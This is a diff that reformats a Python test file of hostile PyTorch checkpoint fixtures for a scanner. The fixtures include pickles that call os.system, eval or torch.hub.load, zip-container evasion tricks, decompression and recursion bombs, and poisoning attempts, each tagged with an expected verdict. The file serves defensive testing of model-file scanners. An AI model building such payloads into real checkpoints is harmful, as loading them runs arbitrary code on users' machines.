@@ -144,7 +144,9 @@ def _central(raw: bytes, name: str) -> tuple[int, int]:
     raise KeyError(name)
 
 
-def _patch(raw: bytes, name: str, *, crc_xor: int = 0, flags_or: int = 0, local_name: str | None = None) -> bytes:
+def _patch(
+    raw: bytes, name: str, *, crc_xor: int = 0, flags_or: int = 0, local_name: str | None = None
+) -> bytes:
     """Patch member ``name``'s headers: flip CRC bits (both headers), set flag bits, rename the local header."""
     out = bytearray(raw)
     cd, loc = _central(raw, name)
@@ -299,7 +301,11 @@ def _overlap(folder: Path) -> bytes:
     nlen, xlen, clen = struct.unpack("<HHH", raw[cd + 28 : cd + 34])
     entry = bytearray(raw[cd : cd + 46 + nlen + xlen + clen])
     entry[46 : 46 + nlen] = b"archive/dat2.pkl"
-    end = raw[eocd:eocd + 8] + struct.pack("<HHII", n + 1, n + 1, cd_size + len(entry), cd_offset) + raw[eocd + 20:]
+    end = (
+        raw[eocd : eocd + 8]
+        + struct.pack("<HHII", n + 1, n + 1, cd_size + len(entry), cd_offset)
+        + raw[eocd + 20 :]
+    )
     return raw[:eocd] + bytes(entry) + end
 
 
@@ -361,7 +367,10 @@ def _conflict(folder: Path) -> bytes:
 
     a = _Storage(("storage", torch.FloatStorage, "0", "cpu", 1))
     b = _Storage(("storage", torch.HalfStorage, "0", "cpu", 2))
-    obj = {k: _Reduce(_rebuild_tensor_v2, s, 0, (1,), (1,), False, OrderedDict()) for k, s in (("a", a), ("b", b))}
+    obj = {
+        k: _Reduce(_rebuild_tensor_v2, s, 0, (1,), (1,), False, OrderedDict())
+        for k, s in (("a", a), ("b", b))
+    }
     return _tensor_zip(_dumps(obj))
 
 
@@ -372,125 +381,435 @@ _SYS = f"{os.system.__module__}.system"
 CASES: list[HostileCase] = [
     # -- benign controls
     _C("benign_zip", "ok", "benign", "torch.save of a small state dict", lambda f: _benign_zip()),
-    _C("benign_legacy", "ok", "benign", "legacy (pre-1.6) torch.save", lambda f: _torch_save(_benign_sd(), legacy=True)),
-    _C("benign_proto4", "ok", "benign", "torch.save with pickle protocol 4",
-       lambda f: _torch_save(_benign_sd(), pickle_protocol=4)),  # fmt: skip
-    _C("benign_rewritten_zip", "ok", "benign", "the same zip rewritten by Python's zipfile",
-       lambda f: _zip(_entries(_benign_zip()))),  # fmt: skip
+    _C(
+        "benign_legacy",
+        "ok",
+        "benign",
+        "legacy (pre-1.6) torch.save",
+        lambda f: _torch_save(_benign_sd(), legacy=True),
+    ),
+    _C(
+        "benign_proto4",
+        "ok",
+        "benign",
+        "torch.save with pickle protocol 4",
+        lambda f: _torch_save(_benign_sd(), pickle_protocol=4),
+    ),  # fmt: skip
+    _C(
+        "benign_rewritten_zip",
+        "ok",
+        "benign",
+        "the same zip rewritten by Python's zipfile",
+        lambda f: _zip(_entries(_benign_zip())),
+    ),  # fmt: skip
     # -- code execution in the pickle
-    *[_C(f"zip_proto{p}_os_system", "unsafe", "code", f"data.pkl is a protocol-{p} os.system REDUCE",
-         lambda f, p=p: _evil_zip(f, p), names=(_SYS,)) for p in range(6)],  # fmt: skip
-    _C("raw_proto0_text_global", "unsafe", "code", "plain protocol-0 pickle: cos\\nsystem\\n ... R",
-       _raw(_P0_SYSTEM), suffix=".ckpt", names=("os.system",)),  # fmt: skip
-    _C("raw_proto1_os_system", "unsafe", "code", "plain protocol-1 pickle calling os.system",
-       lambda f: _system(f, 1), suffix=".ckpt", names=(_SYS,)),  # fmt: skip
-    _C("legacy_os_system", "unsafe", "code", "legacy torch.save with an os.system object inside", _legacy_evil,
-       names=(_SYS,)),  # fmt: skip
-    _C("inst_opcode", "unsafe", "code", "protocol-0 INST opcode (no GLOBAL)", _raw(b"(S'%s'\nios\nsystem\n."),
-       suffix=".pkl", names=("os.system",)),  # fmt: skip
-    _C("obj_opcode", "unsafe", "code", "protocol-1 OBJ opcode", _raw(b"(cos\nsystem\nS'%s'\no."), suffix=".pkl",
-       names=("os.system",)),  # fmt: skip
-    _C("py2_builtin_eval", "unsafe", "code", "__builtin__.eval (Python 2 name, mapped by the unpickler)",
-       _raw(b"c__builtin__\neval\n(S'__import__(\"os\").system(\"%s\")'\ntR."), suffix=".pkl",
-       names=("builtins.eval",)),  # fmt: skip
-    _C("memo_built_name", "unsafe", "code", "STACK_GLOBAL whose module and name come from the memo",
-       _in_zip(_memo_eval), names=("builtins.eval",)),  # fmt: skip
-    _C("decoy_strings", "unsafe", "code", "STACK_GLOBAL with allowed-looking decoy strings popped first",
-       _in_zip(_decoy), names=("os.system",)),  # fmt: skip
-    _C("unicode_escaped_name", "unsafe", "code", "STACK_GLOBAL of raw-unicode-escaped 'o\\u0073', 'syst\\u0065m'",
-       _in_zip(_unicode_escaped), names=("os.system",)),  # fmt: skip
-    _C("getattr_chain", "unsafe", "code", "builtins.getattr(__import__('os'), 'system')(cmd)",
-       _in_zip(_raw(b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'%s'\ntR.")),
-       names=("builtins.getattr", "builtins.__import__")),  # fmt: skip
-    _C("functools_partial", "unsafe", "code", "__reduce__ to functools.partial(os.system, cmd)()",
-       _in_zip(_raw(b"cfunctools\npartial\n(cos\nsystem\nS'%s'\ntR)R.")), names=("functools.partial", "os.system")),
-    _C("partial_memo_names", "unsafe", "code", "functools.partial with os.system built by STACK_GLOBAL",
-       _in_zip(_partial_memo), names=("functools.partial", "os.system")),  # fmt: skip
-    _C("numpy_runstring", "unsafe", "code", "allowed-looking numpy helper that execs: numpy.testing runstring",
-       _in_zip(_raw(b"cnumpy.testing._private.utils\nrunstring\n(S'import os; os.system(\"%s\")'\n(dtR.")),
-       names=("numpy.testing._private.utils.runstring",)),  # fmt: skip
-    _C("numpy_reconstruct_misuse", "unsafe", "code", "allowed numpy.core.multiarray._reconstruct fed subprocess.Popen",
-       _in_zip(_raw(b"cnumpy.core.multiarray\n_reconstruct\n(csubprocess\nPopen\n(S'touch'\nS'%s'\nl"
-                    b"tR.")), names=("subprocess.Popen",)),  # fmt: skip
-    _C("torch_rebuild_abuse", "unsafe", "code", "allowed torch._tensor._rebuild_from_type_v2 handed os.system",
-       _in_zip(_raw(b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\ncbuiltins\nobject\n(S'%s'\nt}tR.")),
-       names=("os.system", "builtins.object")),  # fmt: skip
-    _C("torch_hub_load", "unsafe", "code", "torch.hub.load (downloads and runs a repository's hubconf.py)",
-       _in_zip(_raw(b"ctorch.hub\nload\n(S'attacker/repo'\nS'model'\ntR.")), names=("torch.hub.load",)),
-    _C("torch_cpp_load_inline", "unsafe", "code", "torch.utils.cpp_extension.load_inline (compiles and loads C++)",
-       _in_zip(_raw(b"ctorch.utils.cpp_extension\nload_inline\n(S'x'\nS'int x = system(\"%s\");'\ntR.")),
-       names=("torch.utils.cpp_extension.load_inline",)),  # fmt: skip
-    _C("ext_registry", "unsafe", "code", "EXT1 opcode (copyreg extension registry) instead of a name",
-       _in_zip(lambda f: b"\x80\x02\x82\x01)R."), names=("<extension registry code 1>",)),  # fmt: skip
+    *[
+        _C(
+            f"zip_proto{p}_os_system",
+            "unsafe",
+            "code",
+            f"data.pkl is a protocol-{p} os.system REDUCE",
+            lambda f, p=p: _evil_zip(f, p),
+            names=(_SYS,),
+        )
+        for p in range(6)
+    ],  # fmt: skip
+    _C(
+        "raw_proto0_text_global",
+        "unsafe",
+        "code",
+        "plain protocol-0 pickle: cos\\nsystem\\n ... R",
+        _raw(_P0_SYSTEM),
+        suffix=".ckpt",
+        names=("os.system",),
+    ),  # fmt: skip
+    _C(
+        "raw_proto1_os_system",
+        "unsafe",
+        "code",
+        "plain protocol-1 pickle calling os.system",
+        lambda f: _system(f, 1),
+        suffix=".ckpt",
+        names=(_SYS,),
+    ),  # fmt: skip
+    _C(
+        "legacy_os_system",
+        "unsafe",
+        "code",
+        "legacy torch.save with an os.system object inside",
+        _legacy_evil,
+        names=(_SYS,),
+    ),  # fmt: skip
+    _C(
+        "inst_opcode",
+        "unsafe",
+        "code",
+        "protocol-0 INST opcode (no GLOBAL)",
+        _raw(b"(S'%s'\nios\nsystem\n."),
+        suffix=".pkl",
+        names=("os.system",),
+    ),  # fmt: skip
+    _C(
+        "obj_opcode",
+        "unsafe",
+        "code",
+        "protocol-1 OBJ opcode",
+        _raw(b"(cos\nsystem\nS'%s'\no."),
+        suffix=".pkl",
+        names=("os.system",),
+    ),  # fmt: skip
+    _C(
+        "py2_builtin_eval",
+        "unsafe",
+        "code",
+        "__builtin__.eval (Python 2 name, mapped by the unpickler)",
+        _raw(b'c__builtin__\neval\n(S\'__import__("os").system("%s")\'\ntR.'),
+        suffix=".pkl",
+        names=("builtins.eval",),
+    ),  # fmt: skip
+    _C(
+        "memo_built_name",
+        "unsafe",
+        "code",
+        "STACK_GLOBAL whose module and name come from the memo",
+        _in_zip(_memo_eval),
+        names=("builtins.eval",),
+    ),  # fmt: skip
+    _C(
+        "decoy_strings",
+        "unsafe",
+        "code",
+        "STACK_GLOBAL with allowed-looking decoy strings popped first",
+        _in_zip(_decoy),
+        names=("os.system",),
+    ),  # fmt: skip
+    _C(
+        "unicode_escaped_name",
+        "unsafe",
+        "code",
+        "STACK_GLOBAL of raw-unicode-escaped 'o\\u0073', 'syst\\u0065m'",
+        _in_zip(_unicode_escaped),
+        names=("os.system",),
+    ),  # fmt: skip
+    _C(
+        "getattr_chain",
+        "unsafe",
+        "code",
+        "builtins.getattr(__import__('os'), 'system')(cmd)",
+        _in_zip(_raw(b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'%s'\ntR.")),
+        names=("builtins.getattr", "builtins.__import__"),
+    ),  # fmt: skip
+    _C(
+        "functools_partial",
+        "unsafe",
+        "code",
+        "__reduce__ to functools.partial(os.system, cmd)()",
+        _in_zip(_raw(b"cfunctools\npartial\n(cos\nsystem\nS'%s'\ntR)R.")),
+        names=("functools.partial", "os.system"),
+    ),
+    _C(
+        "partial_memo_names",
+        "unsafe",
+        "code",
+        "functools.partial with os.system built by STACK_GLOBAL",
+        _in_zip(_partial_memo),
+        names=("functools.partial", "os.system"),
+    ),  # fmt: skip
+    _C(
+        "numpy_runstring",
+        "unsafe",
+        "code",
+        "allowed-looking numpy helper that execs: numpy.testing runstring",
+        _in_zip(_raw(b"cnumpy.testing._private.utils\nrunstring\n(S'import os; os.system(\"%s\")'\n(dtR.")),
+        names=("numpy.testing._private.utils.runstring",),
+    ),  # fmt: skip
+    _C(
+        "numpy_reconstruct_misuse",
+        "unsafe",
+        "code",
+        "allowed numpy.core.multiarray._reconstruct fed subprocess.Popen",
+        _in_zip(_raw(b"cnumpy.core.multiarray\n_reconstruct\n(csubprocess\nPopen\n(S'touch'\nS'%s'\nltR.")),
+        names=("subprocess.Popen",),
+    ),  # fmt: skip
+    _C(
+        "torch_rebuild_abuse",
+        "unsafe",
+        "code",
+        "allowed torch._tensor._rebuild_from_type_v2 handed os.system",
+        _in_zip(
+            _raw(b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\ncbuiltins\nobject\n(S'%s'\nt}tR.")
+        ),
+        names=("os.system", "builtins.object"),
+    ),  # fmt: skip
+    _C(
+        "torch_hub_load",
+        "unsafe",
+        "code",
+        "torch.hub.load (downloads and runs a repository's hubconf.py)",
+        _in_zip(_raw(b"ctorch.hub\nload\n(S'attacker/repo'\nS'model'\ntR.")),
+        names=("torch.hub.load",),
+    ),
+    _C(
+        "torch_cpp_load_inline",
+        "unsafe",
+        "code",
+        "torch.utils.cpp_extension.load_inline (compiles and loads C++)",
+        _in_zip(_raw(b"ctorch.utils.cpp_extension\nload_inline\n(S'x'\nS'int x = system(\"%s\");'\ntR.")),
+        names=("torch.utils.cpp_extension.load_inline",),
+    ),  # fmt: skip
+    _C(
+        "ext_registry",
+        "unsafe",
+        "code",
+        "EXT1 opcode (copyreg extension registry) instead of a name",
+        _in_zip(lambda f: b"\x80\x02\x82\x01)R."),
+        names=("<extension registry code 1>",),
+    ),  # fmt: skip
     # -- zip container tricks
-    _C("zip_custom_prefix", "unsafe", "container", "archive folder 'my model v2/' instead of 'archive/'", _prefix,
-       names=(_SYS,)),  # fmt: skip
-    _C("zip_extra_pkl", "unsafe", "container", "benign data.pkl plus a malicious archive/extra.pkl",
-       _extra_member("archive/extra.pkl"), names=(_SYS,)),  # fmt: skip
-    _C("zip_hidden_storage_pickle", "unsafe", "container", "pickle payload in an unreferenced archive/data/99",
-       _extra_member("archive/data/99"), names=(_SYS,)),  # fmt: skip
-    _C("zip_nonstandard_member", "unsafe", "container", "pickle payload in a member named archive/model.bin",
-       _extra_member("archive/model.bin"), names=(_SYS,)),  # fmt: skip
-    _C("zip_duplicate_first_evil", "unsafe", "container",
-       "two archive/data.pkl: torch reads the first (evil), zipfile the last (benign)", _dup, names=(_SYS,)),
-    _C("zip_duplicate_benign_pair", "unsafe", "container", "two different benign archive/data.pkl (ambiguous)",
-       _dup_benign_pair),  # fmt: skip
-    _C("zip_crc_evil", "unsafe", "container", "malicious data.pkl whose CRC-32 is wrong (zipfile refuses it)",
-       _crc(True), names=(_SYS,)),  # fmt: skip
+    _C(
+        "zip_custom_prefix",
+        "unsafe",
+        "container",
+        "archive folder 'my model v2/' instead of 'archive/'",
+        _prefix,
+        names=(_SYS,),
+    ),  # fmt: skip
+    _C(
+        "zip_extra_pkl",
+        "unsafe",
+        "container",
+        "benign data.pkl plus a malicious archive/extra.pkl",
+        _extra_member("archive/extra.pkl"),
+        names=(_SYS,),
+    ),  # fmt: skip
+    _C(
+        "zip_hidden_storage_pickle",
+        "unsafe",
+        "container",
+        "pickle payload in an unreferenced archive/data/99",
+        _extra_member("archive/data/99"),
+        names=(_SYS,),
+    ),  # fmt: skip
+    _C(
+        "zip_nonstandard_member",
+        "unsafe",
+        "container",
+        "pickle payload in a member named archive/model.bin",
+        _extra_member("archive/model.bin"),
+        names=(_SYS,),
+    ),  # fmt: skip
+    _C(
+        "zip_duplicate_first_evil",
+        "unsafe",
+        "container",
+        "two archive/data.pkl: torch reads the first (evil), zipfile the last (benign)",
+        _dup,
+        names=(_SYS,),
+    ),
+    _C(
+        "zip_duplicate_benign_pair",
+        "unsafe",
+        "container",
+        "two different benign archive/data.pkl (ambiguous)",
+        _dup_benign_pair,
+    ),  # fmt: skip
+    _C(
+        "zip_crc_evil",
+        "unsafe",
+        "container",
+        "malicious data.pkl whose CRC-32 is wrong (zipfile refuses it)",
+        _crc(True),
+        names=(_SYS,),
+    ),  # fmt: skip
     _C("zip_crc_benign", "unsafe", "container", "benign data.pkl whose CRC-32 is wrong", _crc(False)),
-    _C("zip_local_name_mismatch", "unsafe", "container", "local header says archive/xata.pkl, central data.pkl",
-       _local_name, names=(_SYS,)),  # fmt: skip
-    _C("zip_encrypted_flag", "unsafe", "container", "malicious data.pkl flagged encrypted (zipfile won't read it)",
-       _flags(True, 0x1), names=(_SYS,)),  # fmt: skip
-    _C("zip_unusual_flag", "unsafe", "container", "benign data.pkl with flag bit 0x10 set", _flags(False, 0x10)),
-    _C("zip_bzip2_pickle", "unsafe", "container", "data.pkl bzip2-compressed (miniz cannot read; zipfile can)",
-       _method(zipfile.ZIP_BZIP2)),  # fmt: skip
-    _C("zip_deflated_pickle", "unsafe", "container", "malicious data.pkl deflated", _method(zipfile.ZIP_DEFLATED),
-       names=(_SYS,)),  # fmt: skip
-    _C("zip_mixed_prefix", "unsafe", "container", "first member evil/data.pkl, then a benign archive/",
-       _mixed_prefix, names=(_SYS,)),  # fmt: skip
+    _C(
+        "zip_local_name_mismatch",
+        "unsafe",
+        "container",
+        "local header says archive/xata.pkl, central data.pkl",
+        _local_name,
+        names=(_SYS,),
+    ),  # fmt: skip
+    _C(
+        "zip_encrypted_flag",
+        "unsafe",
+        "container",
+        "malicious data.pkl flagged encrypted (zipfile won't read it)",
+        _flags(True, 0x1),
+        names=(_SYS,),
+    ),  # fmt: skip
+    _C(
+        "zip_unusual_flag",
+        "unsafe",
+        "container",
+        "benign data.pkl with flag bit 0x10 set",
+        _flags(False, 0x10),
+    ),
+    _C(
+        "zip_bzip2_pickle",
+        "unsafe",
+        "container",
+        "data.pkl bzip2-compressed (miniz cannot read; zipfile can)",
+        _method(zipfile.ZIP_BZIP2),
+    ),  # fmt: skip
+    _C(
+        "zip_deflated_pickle",
+        "unsafe",
+        "container",
+        "malicious data.pkl deflated",
+        _method(zipfile.ZIP_DEFLATED),
+        names=(_SYS,),
+    ),  # fmt: skip
+    _C(
+        "zip_mixed_prefix",
+        "unsafe",
+        "container",
+        "first member evil/data.pkl, then a benign archive/",
+        _mixed_prefix,
+        names=(_SYS,),
+    ),  # fmt: skip
     _C("zip_concatenated", "unsafe", "container", "benign zip followed by a malicious zip", _concat),
     _C("zip_gap_between_members", "unsafe", "container", "a pickle hidden between two members", _gap),
-    _C("zip_overlapping_members", "unsafe", "container", "two central entries share data.pkl's bytes", _overlap),
-    _C("polyglot_pickle_then_zip", "unsafe", "container",
-       "malicious pickle then a benign zip: torch.load unpickles it, zipfile sees the zip", _polyglot,
-       names=(_SYS,)),  # fmt: skip
+    _C(
+        "zip_overlapping_members",
+        "unsafe",
+        "container",
+        "two central entries share data.pkl's bytes",
+        _overlap,
+    ),
+    _C(
+        "polyglot_pickle_then_zip",
+        "unsafe",
+        "container",
+        "malicious pickle then a benign zip: torch.load unpickles it, zipfile sees the zip",
+        _polyglot,
+        names=(_SYS,),
+    ),  # fmt: skip
     # -- work bombs
-    _C("deep_tuple_key", "error", "dos", "dict key: a tuple nested 300,000 deep (C stack overflow when hashed)",
-       _deep_key),  # fmt: skip
-    _C("dag_bomb_key", "error", "dos", "dict key: a 33-level memo DAG tuple (2**33 leaves to hash)", _dag_key),
-    _C("dag_bomb_shape", "error", "dos", "tensor size: a 33-level memo DAG list (2**33 leaves if repr'd)",
-       lambda f: _tensor_zip(_tensor_pickle(_dag(33), (1,)))),  # fmt: skip
-    _C("dag_bomb_extra", "ok", "dos", "a non-tensor value that is a 33-level memo DAG (summarised, not expanded)",
-       _dag_extra),  # fmt: skip
-    _C("zip_bomb_pickle", "error", "dos", "data.pkl inflating to 80 MiB of opcodes (limit 64 MiB)", _zip_bomb),
-    _C("binbytes8_huge", "error", "dos", "BINBYTES8 claiming 2**62 bytes",
-       lambda f: b"\x80\x04\x8e" + (1 << 62).to_bytes(8, "little") + b".", suffix=".ckpt"),  # fmt: skip
-    _C("stride0_4tb", "error", "dos", "a stride-0 view of a 4-byte storage claiming 4 TB",
-       lambda f: _tensor_zip(_tensor_pickle((1 << 40,), (0,)))),  # fmt: skip
-    _C("deep_list", "error", "dos", "a list nested 100,000 deep",
-       _in_zip(lambda f: b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b".")),  # fmt: skip
-    _C("legacy_6mb", "ok", "dos", "a benign 6 MB legacy pickle (1.5 M opcodes) opens in seconds", _legacy_big),
+    _C(
+        "deep_tuple_key",
+        "error",
+        "dos",
+        "dict key: a tuple nested 300,000 deep (C stack overflow when hashed)",
+        _deep_key,
+    ),  # fmt: skip
+    _C(
+        "dag_bomb_key", "error", "dos", "dict key: a 33-level memo DAG tuple (2**33 leaves to hash)", _dag_key
+    ),
+    _C(
+        "dag_bomb_shape",
+        "error",
+        "dos",
+        "tensor size: a 33-level memo DAG list (2**33 leaves if repr'd)",
+        lambda f: _tensor_zip(_tensor_pickle(_dag(33), (1,))),
+    ),  # fmt: skip
+    _C(
+        "dag_bomb_extra",
+        "ok",
+        "dos",
+        "a non-tensor value that is a 33-level memo DAG (summarised, not expanded)",
+        _dag_extra,
+    ),  # fmt: skip
+    _C(
+        "zip_bomb_pickle", "error", "dos", "data.pkl inflating to 80 MiB of opcodes (limit 64 MiB)", _zip_bomb
+    ),
+    _C(
+        "binbytes8_huge",
+        "error",
+        "dos",
+        "BINBYTES8 claiming 2**62 bytes",
+        lambda f: b"\x80\x04\x8e" + (1 << 62).to_bytes(8, "little") + b".",
+        suffix=".ckpt",
+    ),  # fmt: skip
+    _C(
+        "stride0_4tb",
+        "error",
+        "dos",
+        "a stride-0 view of a 4-byte storage claiming 4 TB",
+        lambda f: _tensor_zip(_tensor_pickle((1 << 40,), (0,))),
+    ),  # fmt: skip
+    _C(
+        "deep_list",
+        "error",
+        "dos",
+        "a list nested 100,000 deep",
+        _in_zip(lambda f: b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b"."),
+    ),  # fmt: skip
+    _C(
+        "legacy_6mb", "ok", "dos", "a benign 6 MB legacy pickle (1.5 M opcodes) opens in seconds", _legacy_big
+    ),
     # -- malformed references
-    _C("storage_bad_numel", "error", "malformed", "storage element count is a string",
-       _storage_pid(lambda: ("storage", _fs(), "0", "cpu", "1"))),  # fmt: skip
-    _C("storage_bad_key", "error", "malformed", "storage key is a list",
-       _storage_pid(lambda: ("storage", _fs(), ["0"], "cpu", 1))),  # fmt: skip
-    _C("storage_bad_type", "error", "malformed", "storage type is a string, not a storage class",
-       _storage_pid(lambda: ("storage", "FloatStorage", "0", "cpu", 1))),  # fmt: skip
-    _C("storage_short_pid", "error", "malformed", "persistent id with 3 fields",
-       _storage_pid(lambda: ("storage", _fs(), "0"))),  # fmt: skip
-    _C("storage_type_conflict", "error", "malformed", "one storage key used as float32 and as float16", _conflict),
-    _C("tensor_bool_shape", "error", "malformed", "tensor size (True,)",
-       lambda f: _tensor_zip(_tensor_pickle((True,), (1,)))),  # fmt: skip
+    _C(
+        "storage_bad_numel",
+        "error",
+        "malformed",
+        "storage element count is a string",
+        _storage_pid(lambda: ("storage", _fs(), "0", "cpu", "1")),
+    ),  # fmt: skip
+    _C(
+        "storage_bad_key",
+        "error",
+        "malformed",
+        "storage key is a list",
+        _storage_pid(lambda: ("storage", _fs(), ["0"], "cpu", 1)),
+    ),  # fmt: skip
+    _C(
+        "storage_bad_type",
+        "error",
+        "malformed",
+        "storage type is a string, not a storage class",
+        _storage_pid(lambda: ("storage", "FloatStorage", "0", "cpu", 1)),
+    ),  # fmt: skip
+    _C(
+        "storage_short_pid",
+        "error",
+        "malformed",
+        "persistent id with 3 fields",
+        _storage_pid(lambda: ("storage", _fs(), "0")),
+    ),  # fmt: skip
+    _C(
+        "storage_type_conflict",
+        "error",
+        "malformed",
+        "one storage key used as float32 and as float16",
+        _conflict,
+    ),
+    _C(
+        "tensor_bool_shape",
+        "error",
+        "malformed",
+        "tensor size (True,)",
+        lambda f: _tensor_zip(_tensor_pickle((True,), (1,))),
+    ),  # fmt: skip
     # -- poisoning attempts
-    _C("poison_storage_type", "error", "poison", "BUILD sets dtype/itemsize on the torch.FloatStorage stand-in",
-       _poison(b"torch\nFloatStorage\n")),  # fmt: skip
-    _C("poison_ordered_dict", "error", "poison", "BUILD sets attributes on the collections.OrderedDict stand-in",
-       _poison(b"collections\nOrderedDict\n")),  # fmt: skip
-    _C("poison_torch_dtype", "error", "poison", "BUILD on the torch.float32 stand-in", _poison(b"torch\nfloat32\n")),
-    _C("poison_stub_class", "error", "poison", "BUILD on the argparse.Namespace stub class",
-       _poison(b"argparse\nNamespace\n")),  # fmt: skip
+    _C(
+        "poison_storage_type",
+        "error",
+        "poison",
+        "BUILD sets dtype/itemsize on the torch.FloatStorage stand-in",
+        _poison(b"torch\nFloatStorage\n"),
+    ),  # fmt: skip
+    _C(
+        "poison_ordered_dict",
+        "error",
+        "poison",
+        "BUILD sets attributes on the collections.OrderedDict stand-in",
+        _poison(b"collections\nOrderedDict\n"),
+    ),  # fmt: skip
+    _C(
+        "poison_torch_dtype",
+        "error",
+        "poison",
+        "BUILD on the torch.float32 stand-in",
+        _poison(b"torch\nfloat32\n"),
+    ),
+    _C(
+        "poison_stub_class",
+        "error",
+        "poison",
+        "BUILD on the argparse.Namespace stub class",
+        _poison(b"argparse\nNamespace\n"),
+    ),  # fmt: skip
 ]
 
 
